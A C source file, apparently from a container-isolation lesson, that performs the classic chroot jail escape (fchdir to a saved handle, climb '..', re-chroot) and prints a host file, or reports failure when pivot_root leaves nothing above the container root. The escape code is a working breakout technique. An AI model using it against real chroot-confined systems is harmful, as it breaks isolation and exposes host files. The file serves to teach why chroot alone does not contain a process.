/*
 * chroot-escape - the classic way out of a chroot(2) jail, for the lesson of
 * steps 03 and 04.
 *
 *     chroot-escape FILE      prints FILE as the real root sees it
 *
 * chroot only changes where "/" points for path lookups; it does not move the
 * current directory, and ".." stops only at the process's root. So a process
 * that may call chroot (root, CAP_SYS_CHROOT):
 *   1. keeps a handle on its current directory,
 *   2. chroots somewhere below it, so that the handle is now outside its root,
 *   3. goes back to the handle and climbs ".." - nothing stops it at its
 *      root any more, because it never passes through it,
 *   4. and chroots to where it arrived: the real root of the mount namespace.
 *
 * Under step 03 (chroot) that is the host's root, and FILE is printed: the
 * jail is open. Under step 04 (pivot_root, old root unmounted) the root of
 * the mount namespace is the container's rootfs: there is nothing above it.
 *
 * Exit status: 0 when FILE was read, 1 when it was not, 2 on a usage error.
 * Nothing is created: the jail it enters is an existing directory.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int fail(const char *what)
{
    fprintf(stderr, "chroot-escape: %s: %s\n", what, strerror(errno));
    return 1;
}

int main(int argc, char *argv[])
{
    struct stat jail, top;
    char buf[4096];
    ssize_t n;
    int here, fd;

    if (argc != 2) {
        fprintf(stderr, "usage: chroot-escape FILE\n");
        return 2;
    }
    if (chdir("/") < 0 || stat("/", &jail) < 0)
        return fail("chdir /");
    here = open(".", O_RDONLY | O_DIRECTORY);
    if (here < 0)
        return fail("open .");
    if (chroot("/tmp") < 0)
        return fail("chroot /tmp");
    if (fchdir(here) < 0)
        return fail("fchdir");
    for (int i = 0; i < 256; i++)
        if (chdir("..") < 0)
            return fail("chdir ..");
    if (chroot(".") < 0 || stat("/", &top) < 0)
        return fail("chroot .");
    /* The top of the climb is the root we started in: there was nothing
     * above it (pivot_root, step 04). A file found there proves nothing. */
    if (top.st_dev == jail.st_dev && top.st_ino == jail.st_ino) {
        fprintf(stderr, "chroot-escape: no way above /: still inside the container\n");
        return 1;
    }
    fd = open(argv[1], O_RDONLY);
    if (fd < 0) {
        fprintf(stderr, "chroot-escape: %s: %s: still inside the container\n", argv[1],
                strerror(errno));
        return 1;
    }
    while ((n = read(fd, buf, sizeof(buf))) > 0)
        if (write(STDOUT_FILENO, buf, (size_t)n) != n)
            return fail("write");
    if (n < 0)
        return fail("read");
    fprintf(stderr, "chroot-escape: read %s from the real root: escaped\n", argv[1]);
    return 0;
}
